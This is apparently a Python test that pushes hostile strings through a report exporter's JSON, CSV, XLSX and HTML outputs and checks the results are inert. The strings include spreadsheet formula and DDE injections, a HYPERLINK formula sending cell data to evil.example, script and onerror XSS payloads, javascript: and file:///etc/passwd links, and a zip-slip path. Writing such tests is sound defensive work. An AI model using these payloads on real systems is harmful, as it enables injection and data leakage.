"""Hostile text, and where each ends in every format: ``python -m tests.whole.hostile`` prints the table of docs/exports.md.

Each text stands at once where the web can put it: in a quotation, an address, a place, a problem, the title of an imported
criterion. It is exported in each format, and what is read back is looked at as a spreadsheet, a parser or a browser would.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache

import lxml.html
from openpyxl import load_workbook

from criteria.loading import CriteriaSet, load_set
from results.audience import Audience
from results.compare.survey import Survey
from results.queries import RunInfo
from results.veil import veiled
from scanner.model.place import Place
from scanner.run.formats import OF_ONE, WRITERS, Request
from tests.results.samples import AS_OF, finding, judgement, scan_info, verdict

MARK = "Zeichen"  # stands in every text, so that it can be found again
TEXTS: dict[str, str] = {
    "formula =": f"=1+1+{MARK}",
    "formula +": f"+1+{MARK}",
    "formula -": f"-1+{MARK}",
    "formula @": f"@SUM({MARK})",
    "formula behind blanks": f"  =1+{MARK}",
    "formula behind a quote": f'"=1+{MARK}',
    "fullwidth formula": f"＝1+{MARK}",
    "tab first": f"\t=1+{MARK}",
    "CR first": f"\r=1+{MARK}",
    "DDE": f"=cmd|' /C calc'!{MARK}",
    "HYPERLINK": f'=HYPERLINK("http://evil.example/?"&A1;"{MARK}")',
    "script": f"<script>alert('{MARK}')</script>",
    "image with handler": f'<img src=x onerror="alert(1)">{MARK}',
    "closing tags": f"</td></table></script><!-- {MARK}",
    "template": f"{{{{ 7*7 }}}} {{% raw %}} {MARK}",
    "right to left override": f"\u202egnp.exe {MARK}",
    "isolates and zero width": f"a\u2066b\u200bc\ufeffd {MARK}",
    "NUL and control signs": f"a\x00b\x07c\x1bd {MARK}",
    "lone surrogate": f"a\ud800b {MARK}",
    "noncharacter": f"a\uffffb {MARK}",
    "CSV injection": f'x","y\r\n2026,0,"=1+{MARK}',
    "semicolons": f"a;b;=1;{MARK}",
    "line separators": f"a\u2028b\u0085c\vd {MARK}",
    "a cell of 1 MB": MARK + "A" * 1_000_000,
    "more than a cell holds": MARK + "Ä" * 40_000,
    "half a pair at the limit": MARK + "😀" * 20_000,
    "javascript: address": f"javascript:alert('{MARK}')",
    "data: address": f"data:text/html,<script>{MARK}</script>",
    "file: address": f"file:///etc/passwd#{MARK}",
    "very long address": f"https://ort.example/{MARK}?" + "a" * 5_000,
    "address with quotes": f"https://ort.example/\"onmouseover='{MARK}'",
    "zip-slip": f"../../etc/{MARK}",
    "Excel escape": f"_x000D_{MARK}_x0041_",
}

Ended = tuple[str, bool]
"""What became of a text in a format, in words, and whether that is harmless."""


def request(text: str) -> Request:
    """Return a request for an export that holds a text wherever the web can put it."""
    place = Place(text, AS_OF, text, text, "urn:uuid:1")
    hit = replace(verdict("S1"), evidence=(place,), values=(("title", text),), searched=(f"page:{text}",))
    found = replace(finding(), pages=(text,), forms=(text,), path=(text,), places=(place,))
    scan = scan_info(name=text, problem=text, reason=text, judgement=judgement(hit, services=(found,)))
    run = RunInfo(1, "2026", "live", AS_OF, AS_OF, (("done", 1),), {})
    shown, audience = veiled([Survey(run, (scan,))], Audience(own=scan.ags, masked=False))
    return Request("2026", shown, audience, _criteria(), of_one=True)


@cache
def _criteria() -> CriteriaSet:
    return load_set()


def exported(form: str, asked: Request) -> bytes:
    """Return an export as bytes; of a package its ZIP file."""
    content = (OF_ONE.get(form) or WRITERS[form])(asked)
    assert not isinstance(content, dict)
    return content if isinstance(content, bytes) else b"".join(content)  # type: ignore[arg-type]


def in_json(data: bytes) -> Ended:
    """Look at JSON."""
    return _told(list(_strings(json.loads(data))))


def in_csv(data: bytes) -> Ended:
    """Look at a package: no cell begins as a formula, no row has other columns than its head."""
    cells: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        if any("/" in name or ".." in name for name in archive.namelist()):
            return "a name leads out of the archive", False
        for name in archive.namelist():
            if name.endswith(".csv"):
                rows = list(csv.reader(io.StringIO(archive.read(name).decode(), newline="")))
                if len({len(row) for row in rows}) > 1:
                    return f"{name} is broken", False
                cells += [cell for row in rows for cell in row]
    if any(cell.lstrip(" '\"")[:1] in set("=+@\t\r") and not cell.startswith("'") for cell in cells):
        return "a formula", False
    quoted = any(cell.startswith("'") and MARK in cell for cell in cells)
    words, fine = _told(cells)
    return f"{words}, with an apostrophe" if quoted else words, fine


def in_xlsx(data: bytes) -> Ended:
    """Look at a workbook: no formula, no link that is no web address, no cell longer than one may be."""
    texts: list[str] = []
    quoted = False
    for paper in load_workbook(io.BytesIO(data)).worksheets:
        for cell in (cell for row in paper.iter_rows() for cell in row if cell.value is not None):
            link = (cell.hyperlink.target or "") if cell.hyperlink else ""
            if cell.data_type == "f" or (link and not link.startswith(("http://", "https://"))):
                return "a formula or a link that acts", False
            texts.append(str(cell.value))
            quoted |= bool(cell.quotePrefix) and MARK in str(cell.value)
    if any(len(text.encode("utf-16-le")) > 2 * 32_767 for text in texts):
        return "a cell that is too long", False
    words, fine = _told(texts)
    return f"{words}, kept text by its format" if quoted else words, fine


def in_html(data: bytes) -> Ended:
    """Look at a page: nothing of the text became an element, a handler or a link that acts."""
    page = lxml.html.fromstring(data)
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        if any(str(name).startswith("on") for name in element.attrib):
            return "a handler", False
        if element.tag == "script" and MARK in (element.text or "") and element.get("type") != "application/json":
            return "a script", False
        if any(
            (element.get(name) or "").lower().startswith(("javascript:", "data:text", "file:"))
            for name in ("href", "src")
        ):
            return "a link that acts", False
    for style in page.iter("style"):  # what stands there was escaped, or it would have ended the element
        style.text = ""
    return _told([str(text) for text in page.itertext()])


LOOKS: dict[str, Callable[[bytes], Ended]] = {
    "json": in_json, "json-full": in_json, "csv": in_csv, "xlsx": in_xlsx, "html": in_html,
}  # fmt: skip


def _strings(data: object) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from (str(key), *_strings(value))
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)


def _told(texts: list[str]) -> Ended:
    """Say what became of the text, of the longest that has its mark."""
    hits = [text for text in texts if MARK in text]
    if any(sign in text for text in texts for sign in "\x00\x07\x1b\u202e\u2066\u200b\ufeff\ud800\uffff\u2028\x85\x0b"):
        return "signs that nobody sees", False
    if not hits:
        return "left out", True
    longest = max(map(len, hits))
    return (f"text, cut at {longest:,} characters" if longest >= 9_999 else "text"), longest < 2_000_000


def ends(name: str, forms: list[str]) -> list[Ended]:
    """Return where a text of the list ended in each format."""
    asked = replace(request(TEXTS[name]), ending=".zip")
    return [LOOKS[form](exported(form, asked)) for form in forms]


def known() -> list[str]:
    """Return the formats that there are and that can be looked at."""
    return [form for form in LOOKS if form in WRITERS or form in OF_ONE]


def main() -> int:
    """Print the table; return 1 where something did harm."""
    forms = known()
    print("| text | " + " | ".join(forms) + " |\n|---|" + "---|" * len(forms))
    bad = 0
    for name in TEXTS:
        ended = ends(name, forms)
        bad += sum(not fine for _, fine in ended)
        print(
            f"| {name} | " + " | ".join(words if fine else f"**{words}**" for words, fine in ended) + " |", flush=True
        )
    return min(1, bad)


if __name__ == "__main__":
    sys.exit(main())
